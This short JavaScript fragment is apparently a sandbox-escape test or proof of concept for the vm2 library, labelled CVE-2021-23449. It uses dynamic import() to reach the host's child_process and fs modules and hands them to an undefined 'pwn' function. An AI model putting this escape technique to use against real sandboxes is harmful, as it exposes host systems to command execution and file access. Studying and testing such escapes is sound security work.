// vm2 CVE-2021-23449: import() reaches the host's module loader (runAsync)
try { import('child_process').then(m => pwn(m), () => {}) } catch (e) {} try { import('fs').then(pwn, () => {}) } catch (e) {} fetchIt(0).then(() => 1, () => 1)
